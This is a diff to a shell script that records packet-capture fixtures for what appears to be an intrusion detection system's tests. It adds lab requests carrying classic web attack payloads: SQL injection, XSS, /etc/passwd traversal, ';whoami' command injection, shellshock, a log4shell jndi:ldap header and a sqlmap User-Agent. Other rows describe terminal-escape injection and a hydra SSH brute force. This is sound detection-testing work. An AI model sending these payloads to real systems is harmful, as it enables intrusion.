@@ -45,6 +45,7 @@ vlan-http.pcap|pcap|-|-|curl over an 802.1Q VLAN (id 100, 10.78.0.1 -> 10.78.0.2
 qinq-http.pcap|pcap|-|-|curl over QinQ: outer 802.1ad id 200, inner 802.1Q id 300 (10.79.0.1 -> 10.79.0.2), captured on the parent (trunk) veth; every frame double-tagged
 benign-mixed.pcapng|pcapng|-|-|benign http (curl) and 2 ssh sessions captured by dumpcap as pcapng on the veth only
 http-injection.pcap|pcap|-|-|curl requests whose request target, Host and User-Agent carry raw terminal-hostile bytes (CSI 2J and 31m, OSC 52 clipboard write, OSC 8 link, CR and BS overwrites, U+202E bidi override, C1 CSI 0x9b) to the victim's http.server
+http-attacks.pcap|pcap|-|-|curl requests to the victim's http.server, one per payload-signature class (SQL injection, XSS, path traversal with --path-as-is, command injection, shellshock User-Agent, log4shell header, sqlmap User-Agent) plus 3 benign requests
 hydra-ssh.pcap|pcap|-|-|hydra -l root -P (48 wrong passwords) -t 4 ssh://10.77.0.2: SSH password brute force against the victim's sshd (root may not log in with a password, so every attempt fails)
 EOF
 )
@@ -59,6 +60,8 @@ is_injection() { [[ " ${INJECTION_FIXTURES[*]} " == *" $1 "* ]]; }
 fixture_alerts() {
 	case $1 in
 	hydra-ssh.pcap) echo '[{"attack_type":"SSH_BRUTE_FORCE","attacker_ip":"10.77.0.1"}]' ;;
+	http-attacks.pcap) printf '%s\n' SQL_INJECTION XSS PATH_TRAVERSAL COMMAND_INJECTION SHELLSHOCK LOG4SHELL SCANNER_USER_AGENT |
+		jq -Rcn '[inputs | {attack_type: ., attacker_ip: "10.77.0.1"}]' ;;
 	esac
 }
 fixture_field() { awk -F'|' -v n="$1" -v f="$2" '$1 == n { print $f }' <<<"$FIXTURE_TABLE"; }
@@ -616,6 +619,28 @@ rec_http_injection_pcap() {
 	done
 	snp_log "  hostile bytes present on the wire ($(tshark -n -r "$f" -Y http.request 2>/dev/null | wc -l) requests)"
 	finish http-injection.pcap
+}
+
+# --- payload-signature fixture -------------------------------------------------------------
+# Plain curl from the attacker namespace, one connection per request: one request per attack
+# class of DESIGN §3.3's payload signatures, then three benign ones (an apostrophe in a name,
+# a plain page, a browser User-Agent) that must not alert.
+rec_http_attacks_pcap() {
+	local b=http://$SNP_IP_V
+	tcpdump_start http-attacks.pcap
+	http_get "$b/?id=1%27%20OR%20%271%27=%271"                         # SQL_INJECTION
+	http_get "$b/?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E"               # XSS
+	http_get "$b/../../etc/passwd" --path-as-is                        # PATH_TRAVERSAL
+	http_get "$b/?host=127.0.0.1%3Bwhoami"                             # COMMAND_INJECTION
+	http_get "$b/cgi-bin/status" -A '() { :; }; /bin/bash -c id'       # SHELLSHOCK
+	http_get "$b/" -H 'X-Api-Version: ${jndi:ldap://x/a}'              # LOG4SHELL
+	http_get "$b/" -A 'sqlmap/1.7 (https://sqlmap.org)'                # SCANNER_USER_AGENT
+	http_get "$b/?name=O%27Brien"                                      # benign
+	http_get "$b/docs/readme.md"                                       # benign
+	http_get "$b/hello.txt?v=2" -A 'Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0' # benign
+	cap_stop
+	snp_log "  $(tshark -n -r "$OUT/http-attacks.pcap" -Y http.request 2>/dev/null | wc -l) HTTP requests"
+	finish http-attacks.pcap
 }
 
 # ---------------------------------------------------------------------------------------------
